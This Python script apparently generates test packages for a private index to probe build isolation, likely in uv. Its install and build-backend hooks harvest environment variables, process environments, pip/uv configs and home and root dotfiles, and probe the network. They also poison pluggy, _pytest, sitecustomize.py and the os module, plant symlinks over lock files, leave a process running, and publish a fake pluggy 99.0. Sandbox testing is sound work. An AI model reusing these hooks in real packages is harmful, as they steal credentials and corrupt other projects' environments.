"""Makes the distributions of the private index.

    python packages.py FOLDER VICTIM STAYS PORT

`wheel` is a wheel; all others are source distributions. The hooks of `built` look for the login and leave everything
else alone; those of `thief` change what comes after them, those of `linker` leave links as well, those of `later` look through what an earlier one may have
changed; `liar` builds a wheel of another project, `link` and `pipe` one that is no file.
"""

import io
import os
import sys
import tarfile
import zipfile

FOLDER, VICTIM, STAYS, PORT = sys.argv[1:]

METADATA = "Metadata-Version: 2.1\nName: demo-{}\nVersion: 1.0\n"

LOOK = '''
import glob
import os
import socket
import subprocess
import sys

VICTIM, STAYS, PORT = {victim!r}, {stays!r}, {port}


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 16).decode("utf-8", "replace")
    except OSError:
        return ""


def look():
    """Everything readable that could hold a login, and whether anything answers."""
    seen = [repr(dict(os.environ))]
    for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/fd/*", "/dev/shm/*", "/opt/*", "/opt/work/*",
                    "/run/*", "/tmp/*", "/etc/pip.conf", "/etc/uv/*", "/root/*", "/root/.*", os.path.expanduser("~/*"),
                    os.path.expanduser("~/.*"), os.path.expanduser("~/.config/*/*"), VICTIM + "/*", VICTIM + "/home/*"):
        for path in glob.glob(pattern):
            if os.path.isfile(path):
                seen.append(path + " " + read(path))
    for port, what in ((PORT, "REACHED THE INDEX"), (3141, "REACHED THE DOOR")):
        try:
            socket.create_connection(("127.0.0.1", port), 2).close()
            seen.append(what)
        except OSError:
            pass
    try:
        socket.create_connection(("192.0.2.1", 9), 1).close()
    except socket.timeout:
        seen.append("REACHED A NETWORK")
    except OSError as error:
        if error.errno not in (101, 113, 1, 13, 97):
            seen.append("REACHED A NETWORK")
    seen.append("home " + repr(os.listdir(os.path.expanduser("~")) if os.path.isdir(os.path.expanduser("~")) else None))
    return "\\n".join(seen)
'''

ATTACK = '''

def places():
    found = []
    for line in read("/proc/self/mountinfo").splitlines():
        fields = line.split(" ")
        place = fields[4]
        own = place == "/" or place.startswith(("/proc", "/sys", "/dev"))
        if "rw" in fields[5].split(",") and os.path.isdir(place) and not own:
            found.append(place)
    return found


def link():
    for place in places():
        for name in ("home", "tmp", "build", "wheel"):
            path = os.path.join(place, name)
            try:
                if os.path.lexists(path):
                    os.rename(path, path + ".was")
                os.symlink("/old" + VICTIM + "/home", path)
            except OSError:
                pass
        for name in ("sync.lock", "direct.lock", "input.in", "overrides.txt", "constraints.txt", "spec.json"):
            path = os.path.join(place, name)
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink(VICTIM + "/overwritten.txt", path)
            except OSError:
                pass


def append(path, text):
    try:
        with open(path, "a") as file:
            file.write(text)
    except OSError:
        pass


def poison():
    """Every module in sight that another job may load: uv's cache, the interpreter, environments."""
    line = "\\nPOISON = 'POISON OF A DEPENDENCY'\\n"
    for place in places():
        for folder, folders, names in os.walk(place):
            own = os.getcwd()
            if folder.startswith(own):
                continue
            for name in names:
                path = os.path.join(folder, name)
                if name == "__init__.py" and os.path.basename(folder) in ("pluggy", "iniconfig", "_pytest"):
                    append(path, line)
    for name in ("sitecustomize.py", "usercustomize.py"):
        for folder in list(sys.path) + [os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])]:
            append(os.path.join(folder or ".", name), line)
    append(os.__file__, line)


def stay():
    """Goes on after the build is over."""
    code = "import os, time\\nend = time.time() + 900\\nwhile time.time() < end:\\n    time.sleep(0.2)\\n"
    null = subprocess.DEVNULL
    subprocess.Popen([sys.executable, "-c", code, STAYS], start_new_session=True, stdin=null, stdout=null, stderr=null)


poison()
stay()
for path in (os.path.expanduser("~/written-by-a-dependency"), "/old" + VICTIM + "/home/written-by-a-dependency"):
    append(path, "x")
'''

LINK = '''
import atexit
atexit.register(link)
'''

SETUP = '''
import setuptools

with open("demo_{name}.py", "w") as file:
    file.write("SEEN = %r\\n" % look())
setuptools.setup(name="demo-{name}", version="1.0", py_modules=["demo_{name}"])
'''

BACKEND = '''
import os
import zipfile


def build_wheel(folder, settings=None, metadata=None):
    name = "{claimed}-{version}-py3-none-any.whl"
    info = "{claimed}-{version}.dist-info/"
    module = "SEEN = %r\\nPOISON = 'POISON OF A DEPENDENCY'\\n" % look()
    files = {{
        "demo_{name}.py": module,
        "{claimed}/__init__.py": module,
        info + "WHEEL": "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
        info + "METADATA": "Metadata-Version: 2.1\\nName: {claimed}\\nVersion: {version}\\n",
    }}
    files[info + "RECORD"] = "".join(one + ",,\\n" for one in files) + info + "RECORD,,\\n"
    path = os.path.join(folder, name)
    kind = {name!r}
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "link":
        os.symlink(VICTIM + "/wheel.whl", path)
    else:
        with zipfile.ZipFile(path, "w") as wheel:
            for one, text in files.items():
                wheel.writestr(one, text)
    return name
'''


def source(name, files):
    files["PKG-INFO"] = METADATA.format(name)
    with tarfile.open("%s/demo_%s-1.0.tar.gz" % (FOLDER, name), "w:gz") as archive:
        for path, text in files.items():
            member = tarfile.TarInfo("demo_%s-1.0/%s" % (name, path))
            content = text.encode()
            member.size, member.mode = len(content), 0o644
            archive.addfile(member, io.BytesIO(content))


def own_backend(name, claimed, version="1.0"):
    head = LOOK.format(victim=VICTIM, stays=STAYS, port=PORT)
    text = head + BACKEND.format(name=name, claimed=claimed, version=version)
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    source(name, {"backend.py": text, "pyproject.toml": project})


def setuptools(name, attack):
    head = LOOK.format(victim=VICTIM, stays=STAYS, port=PORT)
    source(name, {"setup.py": head + attack + SETUP.format(name=name)})


def wheel(name):
    info = "demo_%s-1.0.dist-info/" % name
    files = {
        "demo_%s.py" % name: "SEEN = 'nothing'\n",
        info + "WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        info + "METADATA": METADATA.format(name),
    }
    files[info + "RECORD"] = "".join(one + ",,\n" for one in files) + info + "RECORD,,\n"
    with zipfile.ZipFile("%s/demo_%s-1.0-py3-none-any.whl" % (FOLDER, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)


wheel("wheel")
setuptools("built", "")
setuptools("thief", ATTACK)
setuptools("linker", ATTACK + LINK)
setuptools("later", "")
own_backend("liar", "pluggy", "99.0")
own_backend("link", "demo_link")
own_backend("pipe", "demo_pipe")
for one in os.listdir(FOLDER):
    os.utime(os.path.join(FOLDER, one), (1735689600, 1735689600))
